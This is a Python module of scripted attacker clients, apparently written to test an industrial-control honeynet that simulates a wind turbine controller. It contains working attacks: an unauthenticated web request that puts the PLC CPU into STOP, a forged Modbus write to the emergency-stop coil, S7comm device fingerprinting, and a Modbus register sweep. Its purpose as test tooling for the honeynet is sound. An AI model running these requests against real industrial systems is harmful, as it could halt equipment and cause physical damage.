"""Scripted attacker clients.

Each attack talks only to externally reachable ports (normally the proxy)
and judges success from responses it receives plus, when a run directory is
given, the published artifacts (events.log, trace.csv).  Request bytes are
built by hand so the capture can be checked against exactly what was sent.
"""

from __future__ import annotations

import asyncio
import json
import logging
import struct
import time
import urllib.parse
from dataclasses import asdict, dataclass, field
from pathlib import Path

from . import modbus as mb
from . import s7lite as s7
from .controller import COIL_EMERGENCY_STOP, HR_FAULTS, HR_POWER, HR_ROTOR, HR_STATE, FsmState

logger = logging.getLogger(__name__)

BRAKE_FAULT_BIT = 0x08


@dataclass
class AttackOutcome:
    kind: str
    success: bool
    observed_effects: list = field(default_factory=list)
    captured_request_bytes: bytes = b""
    error: str | None = None
    details: dict = field(default_factory=dict)
    identity: s7.DeviceIdentity | None = None
    local_addr: tuple | None = None

    def to_record(self) -> dict:
        rec = {
            "kind": self.kind,
            "success": self.success,
            "observed_effects": list(self.observed_effects),
            "captured_request_bytes": self.captured_request_bytes.hex(),
            "error": self.error,
            "details": self.details,
            "local_addr": list(self.local_addr) if self.local_addr else None,
        }
        if self.identity is not None:
            rec["identity"] = asdict(self.identity)
        return rec


def write_outcome(run_dir, outcome: AttackOutcome) -> Path:
    path = Path(run_dir) / "attacks.jsonl"
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "a", encoding="utf-8") as fh:
        fh.write(json.dumps(outcome.to_record(), default=str) + "\n")
    return path


def parse_target(text: str, default_port: int) -> tuple[str, int]:
    if "://" in text:
        u = urllib.parse.urlsplit(text)
        return u.hostname or "127.0.0.1", u.port or default_port
    host, _, port = text.rpartition(":")
    if not host:
        return text, default_port
    return host, int(port)


def correlated_events(run_dir, local_addr) -> list[dict]:
    """Events in the run's log attributed to our client address."""
    if run_dir is None or local_addr is None:
        return []
    label = f"{local_addr[0]}:{local_addr[1]}"
    path = Path(run_dir) / "events.log"
    if not path.is_file():
        return []
    out = []
    for line in path.read_text(encoding="utf-8").splitlines():
        try:
            ev = json.loads(line)
        except json.JSONDecodeError:
            continue
        attrs = ev.get("attrs", {})
        if attrs.get("peer") == label or attrs.get("client") == label:
            out.append(ev)
    return out


def _require_correlation(out: AttackOutcome, run_dir, kinds) -> bool:
    """With a run directory, success also needs our request in the honeynet log."""
    if run_dir is None:
        return True
    events = [e for e in correlated_events(run_dir, out.local_addr) if e.get("kind") in kinds]
    out.details["correlated_events"] = len(events)
    if not events:
        out.error = "no correlated event in the honeynet log"
        return False
    return True


def last_trace_row(run_dir) -> dict | None:
    if run_dir is None:
        return None
    path = Path(run_dir) / "trace.csv"
    if not path.is_file():
        return None
    text = path.read_text(encoding="utf-8")
    lines = text.splitlines()
    if not text.endswith("\n"):
        lines = lines[:-1]  # the writer is mid-line
    if len(lines) < 2:
        return None
    header = lines[0].split(",")
    for line in reversed(lines[1:]):
        cells = line.split(",")
        if len(cells) == len(header):
            return dict(zip(header, cells))
    return None


# --- Modbus client ------------------------------------------------------


class ModbusExceptionResponse(Exception):
    def __init__(self, fc: int, code: int):
        super().__init__(f"exception 0x{fc:02X}/0x{code:02X}")
        self.fc, self.code = fc, code


class ModbusClient:
    def __init__(self, host: str, port: int, unit: int = 1, timeout: float = 3.0):
        self.host, self.port, self.unit, self.timeout = host, port, unit, timeout
        self._tid = 0
        self.sent = bytearray()
        self.reader = self.writer = None

    @property
    def local_addr(self):
        return self.writer.get_extra_info("sockname")[:2] if self.writer else None

    async def __aenter__(self):
        self.reader, self.writer = await asyncio.wait_for(
            asyncio.open_connection(self.host, self.port), self.timeout)
        return self

    async def __aexit__(self, *exc):
        self.writer.close()
        try:
            await self.writer.wait_closed()
        except (ConnectionError, OSError):
            pass

    async def transact(self, pdu: bytes) -> tuple[bytes, mb.MbapFrame]:
        self._tid = (self._tid + 1) & 0xFFFF
        adu = mb.request(self._tid, self.unit, pdu)
        self.sent += adu
        self.writer.write(adu)
        await self.writer.drain()
        header = await asyncio.wait_for(self.reader.readexactly(7), self.timeout)
        tid, pid, length, uid = struct.unpack(">HHHB", header)
        body = await asyncio.wait_for(self.reader.readexactly(length - 1), self.timeout)
        return adu, mb.MbapFrame(tid, pid, length, uid, body)

    async def read_holding(self, start: int, quantity: int) -> list[int]:
        _, frame = await self.transact(struct.pack(">BHH", mb.FC_READ_HOLDING, start, quantity))
        pdu = frame.pdu
        if pdu[0] & 0x80:
            raise ModbusExceptionResponse(pdu[0], pdu[1])
        return list(struct.unpack(f">{pdu[1] // 2}H", pdu[2:2 + pdu[1]]))


async def _poll_registers(client: ModbusClient, predicate, timeout: float, interval: float = 0.02):
    deadline = time.monotonic() + timeout
    regs = await client.read_holding(0, 5)
    while not predicate(regs):
        if time.monotonic() > deadline:
            return regs, False
        await asyncio.sleep(interval)
        regs = await client.read_holding(0, 5)
    return regs, True


def _state_label(code: int) -> str:
    try:
        return FsmState(code).label
    except ValueError:
        return f"state{code}"


# --- attacks ------------------------------------------------------------


async def _http_post(target, path: str, form: dict, timeout: float):
    body = urllib.parse.urlencode(form).encode()
    host = target[0]
    req = (
        f"POST {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0\r\n"
        "Content-Type: application/x-www-form-urlencoded\r\n"
        f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    ).encode() + body
    reader, writer = await asyncio.wait_for(asyncio.open_connection(*target), timeout)
    local = writer.get_extra_info("sockname")[:2]
    try:
        writer.write(req)
        await writer.drain()
        raw = await asyncio.wait_for(reader.read(-1), timeout)
    finally:
        writer.close()
        try:
            await writer.wait_closed()
        except (ConnectionError, OSError):
            pass
    status_line = raw.split(b"\r\n", 1)[0].decode("latin-1", "replace")
    parts = status_line.split()
    status = int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else 0
    return req, status, raw, local


async def attack_stop_cpu(web, modbus=None, run_dir=None, brake_limit: float = 0.75,
                          timeout: float = 5.0) -> AttackOutcome:
    """Switch the CPU to STOP through the unauthenticated web panel."""
    out = AttackOutcome("stop_cpu", False)
    pre = None
    try:
        if modbus is not None:
            async with ModbusClient(*modbus, timeout=timeout) as c:
                pre = await c.read_holding(0, 5)
        req, status, raw, local = await _http_post(web, "/cpu", {"mode": "STOP"}, timeout)
    except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError, ModbusExceptionResponse) as exc:
        out.error = f"target unreachable: {exc}"
        return out
    out.captured_request_bytes, out.local_addr = req, local
    out.details["http_status"] = status
    if status != 200 or b"STOP" not in raw:
        out.error = f"panel refused request (HTTP {status})"
        return out
    out.observed_effects.append("cpu STOP accepted")
    ok = True
    if modbus is not None and pre is not None:
        fast = pre[HR_ROTOR] / 100.0 > brake_limit
        out.details["pre"] = {"state": _state_label(pre[HR_STATE]), "w_rotor": pre[HR_ROTOR] / 100.0,
                              "power_kw": pre[HR_POWER], "faults": pre[HR_FAULTS]}

        def settled(regs):
            return regs[HR_POWER] == 0 and (not fast or regs[HR_FAULTS] & BRAKE_FAULT_BIT)

        try:
            async with ModbusClient(*modbus, timeout=timeout) as c:
                post, ok = await _poll_registers(c, settled, timeout)
        except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError, ModbusExceptionResponse) as exc:
            out.error = f"verification read failed: {exc}"
            return out
        out.details["post"] = {"state": _state_label(post[HR_STATE]), "power_kw": post[HR_POWER],
                               "faults": post[HR_FAULTS]}
        if post[HR_POWER] == 0:
            out.observed_effects.append(f"power {pre[HR_POWER]} -> 0 kW")
        if post[HR_FAULTS] & BRAKE_FAULT_BIT and not pre[HR_FAULTS] & BRAKE_FAULT_BIT:
            out.observed_effects.append("brakeFault latched")
    row = last_trace_row(run_dir)
    if row is not None and row.get("cpu_mode") == "STOP":
        triplet = (row["park_brake"], row["pitch_brake"], row["generator_trip"])
        out.observed_effects.append(f"outputs ({','.join(triplet)})")
        ok = ok and triplet == ("1", "1", "1")
    out.success = ok and _require_correlation(out, run_dir, ("web_action",))
    return out


async def attack_write_coils(target, start: int = COIL_EMERGENCY_STOP, values=(True,),
                             expect_state: int | None = None, expect_fault_bits: int | None = None,
                             run_dir=None, timeout: float = 5.0) -> AttackOutcome:
    """Forge one FC15 Write Multiple Coils request and look for its process effect."""
    out = AttackOutcome("write_coils", False, details={"start": start, "values": [int(bool(v)) for v in values]})
    adu_pdu = mb.write_coils_request(0, start, values)[7:]
    try:
        async with ModbusClient(*target, timeout=timeout) as c:
            out.local_addr = c.local_addr
            pre = await c.read_holding(0, 5)
            req, frame = await c.transact(adu_pdu)
            out.captured_request_bytes = req
            if frame.pdu[0] & 0x80:
                out.error = f"exception 0x{frame.pdu[0]:02X}/0x{frame.pdu[1]:02X}"
                out.details["exception"] = [frame.pdu[0], frame.pdu[1]]
                out.observed_effects.append(out.error)
                return out
            echo = struct.unpack(">BHH", frame.pdu[:5])
            if echo != (mb.FC_WRITE_MULTIPLE_COILS, start, len(values)):
                out.error = f"unexpected echo {echo}"
                return out
            out.observed_effects.append(f"echo start={start} quantity={len(values)}")

            def effect(regs):
                if expect_state is not None and regs[HR_STATE] != expect_state:
                    return False
                if expect_fault_bits is not None and (regs[HR_FAULTS] & expect_fault_bits) != expect_fault_bits:
                    return False
                return True

            post, ok = await _poll_registers(c, effect, timeout)
            out.details["post"] = post
        if post[HR_STATE] != pre[HR_STATE]:
            out.observed_effects.append(f"state {_state_label(pre[HR_STATE])} -> {_state_label(post[HR_STATE])}")
        if post[HR_FAULTS] != pre[HR_FAULTS]:
            out.observed_effects.append(f"fault bits 0x{pre[HR_FAULTS]:X} -> 0x{post[HR_FAULTS]:X}")
        out.success = ok
        if not ok:
            out.error = "expected process effect not observed"
        else:
            out.success = _require_correlation(out, run_dir, ("modbus_write",))
    except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError, ModbusExceptionResponse) as exc:
        out.error = f"target unreachable: {exc}"
    return out


async def fingerprint_s7(target, timeout: float = 5.0) -> AttackOutcome:
    """COTP connect, setup communication, module and component SZL reads."""
    out = AttackOutcome("fingerprint_s7", False)
    probes = [s7.build_cotp_cr(), s7.build_setup_comm(), s7.build_szl_read(s7.SZL_MODULE_ID, 0, pdu_ref=2),
              s7.build_szl_read(s7.SZL_COMPONENT_ID, 0, pdu_ref=3)]
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(*target), timeout)
    except (OSError, asyncio.TimeoutError) as exc:
        out.error = f"target unreachable: {exc}"
        return out
    out.local_addr = writer.get_extra_info("sockname")[:2]
    stream = s7.TpktStream()
    replies = []
    try:
        for i, probe in enumerate(probes):
            writer.write(probe)
            out.captured_request_bytes += probe
            await writer.drain()
            while len(replies) < i + 1:
                data = await asyncio.wait_for(reader.read(4096), timeout)
                if not data:
                    raise ConnectionError("connection closed during handshake")
                replies.extend(stream.feed(data))
        cc = s7.parse_cotp(replies[0])
        if cc.pdu_type != s7.COTP_CC:
            raise s7.S7Error("no connection confirm")
        hdr, params, _ = s7.unwrap_response(replies[1])
        pdu_len = struct.unpack(">H", params[6:8])[0]
        out.details["pdu_length"] = pdu_len
        out.observed_effects.append(f"COTP connected, PDU length {pdu_len}")
        _, _, mod_data = s7.unwrap_response(replies[2])
        _, _, comp_data = s7.unwrap_response(replies[3])
        _, module_recs = s7.parse_szl_records(mod_data)
        _, comp_recs = s7.parse_szl_records(comp_data)
        out.identity = s7.identity_from_records(module_recs, comp_recs)
        out.details["identity"] = asdict(out.identity)
        out.observed_effects.append(f"identified {out.identity.module_type} ({out.identity.order_number})")
        out.success = True
    except (OSError, asyncio.TimeoutError, ValueError, IndexError, struct.error) as exc:
        out.error = f"handshake failed: {exc}"
    finally:
        writer.close()
        try:
            await writer.wait_closed()
        except (ConnectionError, OSError):
            pass
    return out


async def attack_read_recon(target, max_address: int = 64, timeout: float = 5.0) -> AttackOutcome:
    """Sweep FC3 one register at a time and map which addresses answer."""
    out = AttackOutcome("read_recon", False)
    valid, values, exceptions = [], {}, {}
    try:
        async with ModbusClient(*target, timeout=timeout) as c:
            out.local_addr = c.local_addr
            for addr in range(max_address):
                _, frame = await c.transact(struct.pack(">BHH", mb.FC_READ_HOLDING, addr, 1))
                if frame.pdu[0] & 0x80:
                    exceptions[addr] = frame.pdu[1]
                else:
                    valid.append(addr)
                    values[addr] = struct.unpack(">H", frame.pdu[2:4])[0]
            out.captured_request_bytes = bytes(c.sent)
    except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError) as exc:
        out.error = f"target unreachable: {exc}"
        return out
    out.details = {"valid": valid, "values": values, "exceptions": exceptions, "probes": max_address}
    out.observed_effects.append(f"{len(valid)} readable registers of {max_address} probed")
    out.success = bool(valid)
    return out


ATTACKS = {
    "stop-cpu": attack_stop_cpu,
    "write-coils": attack_write_coils,
    "fingerprint-s7": fingerprint_s7,
    "read-recon": attack_read_recon,
}
